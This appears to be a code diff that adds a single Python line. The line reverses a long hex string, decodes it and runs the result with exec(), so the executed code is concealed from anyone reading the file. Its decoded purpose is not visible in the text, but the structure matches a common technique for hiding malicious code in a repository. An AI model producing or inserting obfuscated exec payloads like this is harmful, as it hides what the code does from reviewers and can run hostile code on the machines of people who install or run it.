@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a092223747e656d67656372202c2221647f657172202c2225636e616c61626228286479677f55636e6f6f54656c6c61636f5472756373716e25647164696c61667e6960202020202020202a0928286479677f55636e6f6f54656c6c61636f5472756373716e237e6f6964707f6f55647164696c61667e6960202020202020202a092929282473656a626f6d35657c61667f5e6275747562782b636f6d4e2b636f6d6824737f607f5e266c65637020202020202020202020202a0a35647164696c61667e6960237160292225647164696c61667e6962202c25636e6164737e694462716f6268637164482473656a626f6e28636471607e2b636f6d602020202020202020202020202020202a0c502c237e6f6964707f6f55647164696c61667e69602371602922237e6f6964707f6f55647164696c61667e6962202c25636e6164737e694568636163476f6c61647163482473656a626f6e28636471607e2b636f6d602864796770202020202020202a0a05636e6164737e694462716f62686371644024727f607d69602462716f62686371646e256369667275637e207071602d6f627660202020202020202a0a39266c6563782465647164696c61667e696f5562716f5375686361636f5473756470266564602020202a0a0925637e6f60737562702c292925637e6f607375627d35657c61667f5e6275747562782b636f6d4e2b636f6d6824737f607f5e266c65637823794472756373716e266c65637020202020202020202020202a0a3922247e6962707e237e69647c696572622828636471607e2b636f6d602864796770202020202020202a09282473656a626f602d3025637e6f6073756270202020202020202a092e656b6f6272602c22756e656473796c6f547e656d656c647475637f52756473796765627e657820757e61656c634464616e266c656370202020202020202a092e656b6f62726822756e656473796c6f547e656d656c647475637f527564737967656270202020202020202a0929222d6f6f626228227f627275456d69647e65725d3473656666656f55646963782b636f6d4e2b636f6d602d302e656b6f627260202020202020202a0a39266c65637825637e6f607375627f5568647f556469686f547f6e6f53756f646f52756e656473796c6f576e696c6961666f5473756470266564602020202a0a0929292224757f6024656d696470246165627228227f62727544757f656d69645d3473656666656f55646963782b636f6d4e2b636f6d6824737f607f5e266c65637020202020202020202020202a0a39227f62727544757f656d6964582375637961625472756373716e266c6563702864796770202020202020202a0a39266c6563782375637961627f547375657175627f5e6568677f5375696669647f6e6f5473756470266564602020202a0a0925637e6f60737562702c292925637e6f607375627d35657c61667f5e6275747562782b636f6d4e2b636f6d6824737f607f5e266c65637823794472756373716e266c656370202020202020202a09282473656a626f602d3025637e6f6073756270202020202020202a0a39266c65637825637e6f607375627f52756476616f5375696669647f6e6f5473756470266564602020202a0a0928286479677f55636e6f6f54656c6c61636f5472756373716e22756e656473796c6e266c6563702020202020202020202020202020202a0a397c6c616e69666020202020202020202020202a092d722872202a322164716468722b702c2d7b702c2225636e616c61626d247e656d656c647475637f28367f2960716f23747e656d6971607228247e656d656c647475637f54737f607e2c6563776e656e266c6563702e6275747562702020202020202020202020202020202a0a3972747020202020202020202020202a0a3924737f60702c2224737f6072202c25636e6164737e6944727f60737e616274582473656a626f6e28636471607e2b636f6d602864796770202020202020202a0a3924737f60702c266c65637824737f607f50266564602020202a0a0922756e656473796c6e266c6563702c22756e656473796c6f547e656d656c647475637f52756473796765627e657820757e61656c634464616e266c656370202020202020202a0922756e656473796c6e266c65637822756e656473796c6f547e656d656c647475637f527564737967656270202020202020202a09282b636f6d4e2b636f6d602d3022756e656473796c6e266c656370202020202020202a09222c6563776e656e247e65696c636e2070716228256c65746f6d6f54727f607d696e22696c64727f607d69602d302c6563776e656e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e657824737564547e656d656c6474756354737f60502373716c636a0a0a05636e6164737e694568636163476f6c616471634024727f607d696025686361636f576f6c616471636e256369667275637e207071602d6f62766a05636e6164737e6944727f60737e6162745024727f607d696024727f60737e6162747e247e65696c636e207071602d6f62766a02756e656473796c6f547e656d656c647475637f52756473796765627e65702c22756e656473796c6f547e656d656c647475637f52756473796765627024727f607d6960237b6f6f686e247e65696c636e207071602d6f62766a0a0b636f6d6024727f607d69602473756474796e65702d6f62766a0473756474796e657024727f607d696a02696c64727f607d696024727f607d696" ));